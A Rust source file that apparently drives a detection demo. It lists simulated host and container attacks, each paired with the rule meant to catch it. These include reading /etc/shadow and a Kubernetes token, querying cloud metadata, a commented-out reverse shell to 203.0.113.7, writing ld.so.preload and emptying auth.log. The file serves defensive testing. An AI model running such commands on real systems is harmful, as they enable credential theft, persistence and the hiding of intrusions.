//! The attacks: what the service is told to do, and the rule that has to see it.

use std::path::Path;

/// Where an attack happens.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Place {
    Host,
    Container,
}

/// One attack.
#[derive(Debug)]
pub(super) struct Attack {
    pub(super) title: &'static str,
    pub(super) place: Place,
    pub(super) rule: &'static str,
    /// What the service is told first, to get ready.
    pub(super) before: Option<Vec<String>>,
    /// The line that the service is given: see `helpers/service.c`.
    pub(super) words: Vec<String>,
}

/// What an attacker would do first, in about the order in which it is done.
///
/// None of them harms: hashes go to `/dev/null`, the address is not routed, the traced process is the service's
/// own child, and the reverse shell is a comment. `scratch` is a folder of the demo's below `/dev/shm`.
pub(super) fn all(scratch: &Path) -> Vec<Attack> {
    let dropped = scratch.join("payload").display().to_string();
    let folder = scratch.display().to_string();
    let mut attacks = on_the_host(&dropped, &folder);
    attacks.extend(in_the_container());
    attacks
}

fn on_the_host(dropped: &str, folder: &str) -> Vec<Attack> {
    let host = |title, rule, words: &[&str]| attack(Place::Host, title, rule, words);
    vec![
        host(
            "password hashes read",
            "Password file read",
            &["run", "/usr/bin/cat", "/etc/shadow"],
        ),
        host(
            "private keys searched",
            "Credential search",
            &["run", "/usr/bin/grep", "-rl", "PRIVATE KEY", folder],
        ),
        host(
            "program run from /dev/shm",
            "Program run from shared memory",
            &["run", dropped, "true"],
        ),
        host(
            "program run from memory",
            "Program run from memory",
            &["memory", "/bin/busybox", "true"],
        ),
        host(
            "reverse shell started",
            "Reverse shell command line",
            &[
                "run",
                "/bin/sh",
                "-c",
                "true # bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
            ],
        ),
        host("process taken over", "Process taken over by ptrace", &["trace"]),
    ]
}

fn in_the_container() -> Vec<Attack> {
    let container = |title, rule, words: &[&str]| attack(Place::Container, title, rule, words);
    let token = "/run/secrets/kubernetes.io/serviceaccount/token";
    vec![
        container(
            "shell started by the service",
            "Shell in container",
            &["run", "/bin/sh", "-c", "id"],
        ),
        container(
            "service account token read",
            "Service account token read by hand",
            &["run", "/bin/cat", token],
        ),
        container(
            "cloud credentials requested",
            "Cloud metadata contacted from container",
            &["connect", "169.254.169.254", "80"],
        ),
        container(
            "packages looked at",
            "Package manager run in container",
            &["run", "/bin/dpkg", "-l"],
        ),
        container(
            "library preloaded everywhere",
            "Loader configuration written",
            &["run", "/bin/cp", "/etc/group", "/etc/ld.so.preload"],
        ),
        Attack {
            before: Some(words(&["run", "/bin/cp", "/bin/busybox", "/opt/busybox"])),
            ..container(
                "tool of the attacker run",
                "Dropped program run in container",
                &["run", "/opt/busybox", "true"],
            )
        },
        container(
            "way to the host looked for",
            "Namespace tool run in container",
            &["run", "/bin/nsenter", "--help"],
        ),
        container(
            "log emptied",
            "Log file emptied",
            &["truncate", "/var/log/auth.log"],
        ),
    ]
}

fn attack(place: Place, title: &'static str, rule: &'static str, line: &[&str]) -> Attack {
    Attack {
        title,
        place,
        rule,
        before: None,
        words: words(line),
    }
}

fn words(words: &[&str]) -> Vec<String> {
    words.iter().map(ToString::to_string).collect()
}
